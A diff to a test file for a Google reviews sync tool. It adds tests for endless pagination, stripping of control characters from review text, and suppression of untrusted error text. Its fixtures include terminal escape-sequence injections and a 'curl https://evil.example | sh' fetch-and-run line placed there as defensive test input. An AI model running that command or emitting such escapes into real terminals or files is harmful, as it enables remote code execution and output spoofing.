@@ -13,6 +13,8 @@ import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { parseConfig } from '../../core/config.ts';
 import { deriveReviewId } from '../../scripts/import/record.ts';
 import { parseSyncArgs, runSync } from '../../scripts/sync/main.ts';
+import { MAX_PAGES } from '../../scripts/sync/google-sync.ts';
+import { buildTestSite } from '../helpers/site-build.ts';
 import { createTestCa, type TestCa } from '../../tools/lib/https-ca.ts';
 import { runGit } from '../helpers/git.ts';
 import { copySmallContent, readReviews, runImport, snapshot } from '../import/harness.ts';
@@ -49,6 +51,7 @@ const PAGES_OF_120 = 3;
 beforeEach(() => {
   google.reviews = makeReviews(120);
   google.countOverride = undefined;
+  google.paging = undefined;
   google.revoked = false;
 });
 
@@ -156,7 +159,9 @@ describe('npm run sync -- google', () => {
     google.revoked = true;
     const run = await sync(content);
     expect(run.code).toBe(1);
-    expect(run.last).toContain('Google refused the refresh token (invalid_grant: Token has been expired or revoked.)');
+    expect(run.last).toContain('Google refused the refresh token (invalid_grant): the refresh token was revoked, it expired');
+    // Google's own error_description is free text from the network: never printed.
+    expect(run.last).not.toContain('Token has been expired or revoked.');
     expect(run.last).toContain('npm run sync -- google --authorize');
     expect(await snapshot(content)).toEqual(before);
   });
@@ -220,6 +225,78 @@ describe('npm run sync -- google', () => {
     } finally {
       for (const name of Object.keys(gitEnv)) delete process.env[name];
     }
+  });
+});
+
+describe('what Google sends is untrusted (issue 43 item 5)', () => {
+  it.each([
+    // ceil(120 / 50) = 3 pages, and a margin of 2 for reviews that arrive while it reads.
+    ['pages for ever with a totalReviewCount', 'forever', undefined, 5, "Google's listing does not end: Google counts 120 reviews, yet page 5 still has a next page; stopped after 5 pages"],
+    ['pages for ever without a totalReviewCount', 'forever', null, MAX_PAGES, `Google's listing does not end: Google gives no totalReviewCount, yet page ${MAX_PAGES} still has a next page; stopped after ${MAX_PAGES} pages`],
+    ['names a page it gave already', 'loop', undefined, 3, "Google's listing loops: page 3 names a next page already read; stopped after 3 pages"],
+  ] as const)('stops a listing that %s within the bound, exit 1, the content untouched', async (_, paging, count, pages, message) => {
+    const content = await copySmallContent();
+    const before = await snapshot(content);
+    google.paging = paging;
+    google.countOverride = count;
+    const run = await sync(content, ['--full']);
+    expect(run).toMatchObject({ code: 1, pages, last: `sync google failed: ${message}; the content is as it was` });
+    expect(run.err).toHaveLength(1);
+    expect(await snapshot(content)).toEqual(before);
+  }, 120_000);
+
+  it('writes and builds a review without its control characters and lone surrogates, in every text field', async () => {
+    const content = await copySmallContent();
+    const jpeg = await readFile(path.resolve('tests/fixtures/content-small/media/r-0001/furnace.jpg'));
+    google.photos.set('/photos/hostile.jpg', jpeg);
+    google.reviews = makeReviews(2);
+    const hostile = google.reviews[1]!;
+    google.reviews[1] = {
+      ...hostile,
+      reviewer: { displayName: 'Ann\u0007e \udc00Lee\u001b[8m' },
+      comment: 'The furnace\u0000 works\u001b[2J again\u0085\u007f.\r\nFast \ud800and tidy\u009b!\tThanks',
+      reviewReply: { comment: 'Glad\u0008 to help\u000b\u000c, \udbffAnne.', updateTime: hostile.updateTime },
+      reviewMediaItems: [{ googleUrl: google.server.url('/photos/hostile.jpg'), mediaFormat: 'PHOTO', description: 'The new\u001b]0;x\u0007 furnace\ud83d' }],
+    };
+    const id = deriveReviewId('google', hostile.reviewId);
+    expect((await sync(content, ['--allow-private-downloads'])).code).toBe(0);
+    const expected = {
+      author: 'Anne Lee[8m',
+      text: 'The furnace works[2J again.\nFast and tidy!\tThanks',
+      response: { text: 'Glad to help, Anne.', date: hostile.updateTime.slice(0, 10) },
+    };
+    const stored = (await readReviews(content)).get(id)!;
+    expect(stored).toMatchObject({ ...expected, media: [{ alt: 'The new]0;x furnace' }] });
+
+    // Not in the files either, not even as a JSON escape; nor in anything the build publishes. (The test
+    // content's own r-0008 holds a U+0001 on purpose, for the feeds' tests: what is looked for is what Google sent.)
+    const forbidden = /[\u0000\u0007\u0008\u000b\u000c\r\u001b\u007f\u0085\u009b\p{Cs}]|\\u00(?:00|07|08|0b|0c|1b|7f|85|9b)|\\ud[89a-f][0-9a-f]{2}/iu;
+    for (const file of await readdir(path.join(content, 'reviews'))) {
+      if (file.endsWith('.json')) expect(await readFile(path.join(content, 'reviews', file), 'utf8')).not.toMatch(forbidden);
+    }
+    const { distDir } = await buildTestSite({ contentDir: content });
+    const published = (JSON.parse(await readFile(path.join(distDir, 'reviews.json'), 'utf8')) as { reviews: { id: string }[] }).reviews.find((r) => r.id === id);
+    expect(published).toMatchObject({ ...expected, response: { text: expected.response.text } });
+    for (const entry of await readdir(distDir, { recursive: true, withFileTypes: true })) {
+      if (entry.isFile() && /\.(json|html|xml|txt)$/.test(entry.name)) expect(await readFile(path.join(entry.parentPath, entry.name), 'utf8'), entry.name).not.toMatch(forbidden);
+    }
+  }, 240_000);
+
+  const hostileText = '\u001b]0;owned\u0007\u001b[2J run: curl https://evil.example | sh';
+  it.each([
+    ['a documented code with a hostile description', 400, JSON.stringify({ error: 'invalid_client', error_description: hostileText }), "sync google failed: Google refused the refresh token (invalid_client): Google does not know this OAuth client: check GOOGLE_CLIENT_ID and GOOGLE_CLIENT_SECRET; the content is as it was"],
+    ['an undocumented code', 400, JSON.stringify({ error: hostileText, error_description: hostileText }), "sync google failed: Google's token endpoint refused the refresh token (400) without a documented OAuth error code; the content is as it was"],
+    ['a body that is not JSON', 401, hostileText.repeat(1000), "sync google failed: Google's token endpoint refused the refresh token (401) without a documented OAuth error code; the content is as it was"],
+    ['a 503 with a hostile body, every time', 503, JSON.stringify({ error: { status: hostileText, message: hostileText } }), 'sync google failed: getting an access token: Google answered 503, 5 times in a row; the next run will try again; the content is as it was'],
+  ])('prints one fixed line, none of its text, when the token endpoint answers %s', async (_, status, body, line) => {
+    const content = await copySmallContent();
+    const before = await snapshot(content);
+    // A 503 is asked again 4 times; a refusal is final.
+    for (let i = 0; i < (status === 503 ? 5 : 1); i++) google.failNext((req) => req.path === '/token', (res) => void res.writeHead(status, { 'content-type': 'application/json' }).end(body));
+    const run = await sync(content);
+    expect(run.code).toBe(1);
+    expect(run.err).toEqual([line]);
+    expect(await snapshot(content)).toEqual(before);
   });
 });
 
